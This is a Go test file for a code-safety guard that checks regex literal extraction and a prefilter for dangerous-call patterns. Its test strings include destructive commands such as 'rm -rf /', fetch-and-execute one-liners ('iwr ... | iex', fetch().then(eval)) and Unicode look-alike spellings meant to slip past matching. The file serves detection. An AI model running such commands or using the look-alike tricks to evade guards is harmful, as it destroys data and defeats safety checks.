package guard

import (
	"regexp/syntax"
	"slices"
	"testing"
)

func TestRequiredLiterals(t *testing.T) {
	for _, tc := range []struct {
		expr string
		want []string // nil: none can be named
	}{
		{`os\.system|os\.popen|subprocess`, []string{"system", "popen", "subprocess"}},
		{`(?i)Invoke-WebRequest|\biwr\b`, []string{"invoke-webrequest", "iwr"}},
		{`\bopen\s*\(`, []string{"open"}},
		{`a*b?`, nil},
		{`x|[ab]`, nil},
		{`(?:foo)+bar`, []string{"foo"}},
	} {
		re, err := syntax.Parse(tc.expr, syntax.Perl)
		if err != nil {
			t.Fatal(err)
		}
		got, ok := requiredLiterals(re.Simplify())
		if !ok {
			got = nil
		}
		if !slices.Equal(got, tc.want) {
			t.Errorf("%s: got %q, want %q", tc.expr, got, tc.want)
		}
	}
}

// The prefilter never hides a match: every pattern that matches a text
// is tried on it, case folding included.
func TestCodePatternPrefilterIsSound(t *testing.T) {
	texts := []string{"import ſubprocess; ſubprocess.run(x)", "c = ſocket.create_connection(h)", "INVOKE-WEBREQUEST http://x | iex",
		"os.system('rm -rf /')", "fetch('https://x').then(eval)", "%x(rm -rf ~)", "open('f', 'w')",
		"require('child_process').execSync('ls')", "File.write('/etc/x', y)", "qx{ls}"}
	for _, f := range []string{"cc-safety-net.tsv", "dcg.tsv", "parry-guard.tsv", "bypasses.tsv"} {
		for _, r := range loadCorpus(t, f) {
			texts = append(texts, r.cmd)
		}
	}
	pats := []func() *codePattern{reShellAPI, reDeleteAPI, reFileAPI, reNetAPI, reRemoteImport, reWriteMethod, reProcCall, reQuotedCommand}
	for _, pair := range remoteEval {
		pats = append(pats, pair[0], pair[1])
	}
	for _, calls := range apiCalls {
		for _, c := range calls {
			pats = append(pats, c.re)
		}
	}
	for _, p := range pats {
		c := p()
		for _, s := range texts {
			if c.re.MatchString(s) && !c.mayMatch(newCodeText(s)) {
				t.Errorf("%s matches %q but the prefilter skips it", c.re, s)
			}
		}
	}
}
